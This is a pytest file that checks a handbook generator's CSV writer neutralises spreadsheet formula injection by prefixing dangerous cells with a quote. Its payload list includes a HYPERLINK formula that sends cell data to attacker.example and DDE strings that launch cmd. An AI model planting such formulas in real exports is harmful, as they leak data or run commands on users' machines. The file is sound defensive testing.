"""No CSV the tool writes holds a spreadsheet formula, whatever the staff records say (OWASP's
CSV injection advice: a cell beginning with = + - @ tab or CR gets a single quote in front)."""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import pytest
import yaml
from conftest import REPO, run_handbook

from generator.core.csv_cells import FORMULA_STARTS, csv_text, safe_cell

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
    "-1",
]  # a name with a carriage return is refused when the records load (a control character)


def hostile_records(project: Path) -> None:
    shutil.copytree(REPO / "examples/records", project / "records")
    path = project / "records/staff.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    for member, payload in zip(data["staff"], PAYLOADS * 3):
        member["name"] = payload
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def dangerous_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row if cell.lstrip(" ").startswith(FORMULA_STARTS)]


def test_the_helper_quotes_every_formula_start():
    for start in FORMULA_STARTS:
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("Ada Example") == "Ada Example"
    assert safe_cell("O'Brien - Smith") == "O'Brien - Smith"  # only the first character counts
    assert list(csv.reader([csv_text([["=1", "ok"]]).strip()])) == [["'=1", "ok"]]


@pytest.mark.prebuilt
def test_every_csv_output_neutralises_hostile_names(project: Path):
    hostile_records(project)
    assert run_handbook("status", cwd=project).returncode == 0
    build = run_handbook("build", "--records", "records", "-q", cwd=project)
    assert build.returncode == 0, build.stderr
    assert run_handbook("due", "--records", "records", cwd=project).returncode == 0
    outputs = sorted((project / "build").rglob("*.csv"))
    assert project / "build/private/acknowledgements.csv" in outputs
    for path in outputs:
        assert dangerous_cells(path) == [], path
    names = {
        row["name"] for row in csv.DictReader((project / "build/private/acknowledgements.csv").open(encoding="utf-8"))
    }
    assert '\'=HYPERLINK("http://attacker.example/?"&A1,"Click")' in names  # kept, readable, inert
    assert "'+1+1" in names and "'@SUM(1+1)*cmd|' /C calc'!A0" in names


def test_a_hostile_staff_id_is_refused(project: Path):
    hostile_records(project)
    path = project / "records/staff.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("id: ada-example", "id: =cmd", 1), encoding="utf-8")
    result = run_handbook("status", cwd=project)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert not (project / "build/private/acknowledgements.csv").exists()


def test_every_csv_writer_uses_the_helper():
    """One path to a CSV file: any module that writes CSV itself is a hole in the class."""
    writers = []
    for path in sorted((REPO / "generator").rglob("*.py")):
        if path.name == "csv_cells.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\b|\.writerows?\(", path.read_text(encoding="utf-8")):
            writers.append(str(path.relative_to(REPO)))
    assert writers == [], f"write CSV through generator/core/csv_cells.py: {writers}"
